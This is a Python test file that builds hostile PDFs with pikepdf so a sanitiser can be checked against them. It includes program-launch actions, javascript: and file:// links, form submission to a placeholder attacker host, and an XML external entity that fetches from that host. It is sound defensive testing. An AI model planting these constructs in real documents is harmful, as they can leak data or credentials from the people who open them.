"""Actions and media that reach out of a PDF."""

from __future__ import annotations

from collections.abc import Callable

from pikepdf import Array, Dictionary, Name, Pdf, Stream, String

from tests.hostile.pdf.cases import EVIL, annotate, cleaned, link, name_tree, saved


def _link_to(address: str | bytes) -> Callable[[Pdf], None]:
    def change(pdf: Pdf) -> None:
        link(pdf, Dictionary(S=Name.URI, URI=String(address)))

    return change


def _action(name: str, **entries: object) -> Callable[[Pdf], None]:
    def change(pdf: Pdf) -> None:
        link(pdf, Dictionary({"/S": Name(name), **{f"/{key}": v for key, v in entries.items()}}))

    return change


def _media(subtype: str, key: str) -> Callable[[Pdf], None]:
    def change(pdf: Pdf) -> None:
        content = pdf.make_indirect(Stream(pdf, EVIL.encode()))
        annotate(pdf, Dictionary({"/Subtype": Name(subtype), key: content}))

    return change


def _external_stream(pdf: Pdf) -> None:
    """A page whose content is to be read from another file."""
    pdf.pages[0].obj.Contents.F = f"//{EVIL}/share"
    pdf.pages[0].obj.Contents.FFilter = Name.FlateDecode


def _reference(pdf: Pdf) -> None:
    """A drawing that is a page of another file."""
    form = Stream(pdf, b"", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 1, 1])
    form.Ref = Dictionary(F=EVIL, Page=0)
    pdf.pages[0].obj.Resources.XObject = Dictionary(X=form)


def _postscript(pdf: Pdf) -> None:
    drawing = Stream(pdf, f"({EVIL}) run".encode(), Type=Name.XObject, Subtype=Name("/PS"))
    pdf.pages[0].obj.Resources.XObject = Dictionary(X=drawing)


def _private(pdf: Pdf) -> None:
    data = Dictionary(Illustrator=Dictionary(Private=Stream(pdf, EVIL.encode())))
    pdf.pages[0].obj.PieceInfo = data


def _metadata(pdf: Pdf) -> None:
    """XMP that would have its reader fetch a file."""
    xmp = f'<!DOCTYPE x [<!ENTITY e SYSTEM "http://{EVIL}/">]><x:xmpmeta>&e;</x:xmpmeta>'
    pdf.Root.Metadata = Stream(pdf, xmp.encode(), Type=Name.Metadata, Subtype=Name.XML)


def with_trailing_archive() -> bytes:
    with Pdf.new() as pdf:
        pdf.add_blank_page()
        return saved(pdf) + b"\nPK\x03\x04 " + EVIL.encode()


CASES = (
    cleaned("program that is launched", _action("/Launch", F=EVIL), launch=1),
    cleaned("page of another file", _action("/GoToR", F=EVIL, D=[0]), launch=1),
    cleaned("page of an attachment", _action("/GoToE", F=EVIL, D=[0]), launch=1),
    cleaned("article of another file", _action("/Thread", F=EVIL), launch=1),
    cleaned("form that is sent", _action("/SubmitForm", F=f"http://{EVIL}"), form=1),
    cleaned("form that is filled in", _action("/ImportData", F=EVIL), form=1),
    cleaned("film that is played", _action("/Rendition", JS=EVIL, OP=0), media=1),
    cleaned("command of the reader", _action("/Named", N=Name("/Print")), action=1),
    cleaned("action that nobody knows", _action("/Evil", F=EVIL), action=1),
    cleaned("link to a script", _link_to(f"javascript:alert('{EVIL}')"), link=1),
    cleaned("link to a file", _link_to(f"file://{EVIL}/share"), link=1),
    cleaned("link without scheme", _link_to(f"//{EVIL}/share"), link=1),
    cleaned("link in another encoding", _link_to(f"http://{EVIL}".encode("utf-16")), link=1),
    cleaned(
        "address that all links begin with",
        lambda pdf: setattr(pdf.Root, "URI", Dictionary(Base=f"http://{EVIL}/")),
        link=1,
    ),
    cleaned("film", _media("/Movie", "/Movie"), media=1),
    cleaned("sound", _media("/Sound", "/Sound"), media=1),
    cleaned("film in a screen", _media("/Screen", "/MK"), media=1),
    cleaned("3D model", _media("/3D", "/3DD"), media=1),
    cleaned("Flash", _media("/RichMedia", "/RichMediaContent"), media=1),
    cleaned(
        "film in the names of the catalog",
        lambda pdf: name_tree(pdf, "/Renditions", ("film", Dictionary(S=Name.MR, C=EVIL))),
        media=1,
    ),
    cleaned("content in another file", _external_stream, launch=2),
    cleaned("drawing in another file", _reference, launch=1),
    cleaned("program in PostScript", _postscript, script=1),
    cleaned("data of a program", _private, private=1),
    cleaned("metadata that fetch a file", _metadata, private=1),
)

PLAIN_LINKS = ("https://www.example.com/terms", "http://example.com", "mailto:legal@example.com")


def with_plain_links(pdf: Pdf) -> None:
    """What a legal document may well have."""
    for address in PLAIN_LINKS:
        link(pdf, Dictionary(S=Name.URI, URI=String(address)))
    link(pdf, Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit])))
    link(pdf, Dictionary(S=Name.Named, N=Name.NextPage))
